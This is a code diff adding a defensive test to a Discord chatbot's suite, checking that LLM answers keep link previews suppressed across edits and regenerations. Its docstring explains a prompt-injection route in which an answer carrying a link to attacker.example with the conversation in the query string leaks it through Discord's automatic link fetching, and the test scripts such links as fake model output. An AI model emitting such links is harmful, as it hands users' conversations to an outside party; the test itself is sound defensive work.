@@ -22,6 +22,7 @@ from bot.providers import ProviderHub, ProviderSettings
 from bot.store import SecretBox, Store, generate_key
 from bot.types import ChannelConfig, SecretValue, Source
 from tests.discord.conftest import World
+from tests.discord.fake_discord import SUPPRESS_EMBEDS
 from tests.discord.fake_openai import FakeOpenAI, Script
 from tests.discord.helpers import bot_messages, reply_text, requests
 
@@ -94,6 +95,34 @@ async def test_regenerate_and_swipe_edit_the_answer_in_place(
     answer = fresh(world, answer)
     assert answer.content == "first answer and more"
     assert bot_messages(world.channel, world.bot_id) == ["first answer and more"]
+
+
+async def test_an_answer_keeps_its_link_previews_off_through_every_edit(
+    world: World, endpoint: FakeOpenAI
+) -> None:
+    """Discord fetches each link of a message the moment it is posted or edited: an answer
+    a prompt injection wrote as https://attacker.example/?q=<the conversation> handed the
+    conversation over, no click needed. Posted without previews (SUPPRESS_EMBEDS), an
+    answer lost that at its first edit too (discord.py's Message.edit sends the flags,
+    embeds shown unless told), then at 🔄 and a typed /regenerate."""
+    link = "https://attacker.example/?q=tell+me"
+    endpoint.script = Script(chunks=[f"Read {link} ", "now, ", "please."])
+    answer = await ask(world, world.member, "tell me")
+    edits = requests(world.env, "PATCH", f"/messages/{answer.id}")
+    assert edits and answer.flags.suppress_embeds
+
+    endpoint.script = Script(chunks=[f"Read {link}&again=1 ", "now."])
+    await world.member.click(answer, custom_id=the_id(answer, "regen"))
+    assert link + "&again=1" in fresh(world, answer).content
+    assert fresh(world, answer).flags.suppress_embeds
+
+    endpoint.script = Script(chunks=[f"Read {link}&again=2 ", "now."])
+    await world.member.slash(world.channel, "regenerate")
+    assert link + "&again=2" in fresh(world, answer).content
+    assert fresh(world, answer).flags.suppress_embeds
+    # No edit on the way showed them for a moment either.
+    for edit in requests(world.env, "PATCH", f"/messages/{answer.id}"):
+        assert "flags" not in edit.json or edit.json["flags"] & SUPPRESS_EMBEDS
 
 
 async def test_regenerate_asks_the_newest_question_when_an_older_answer_says_the_same(
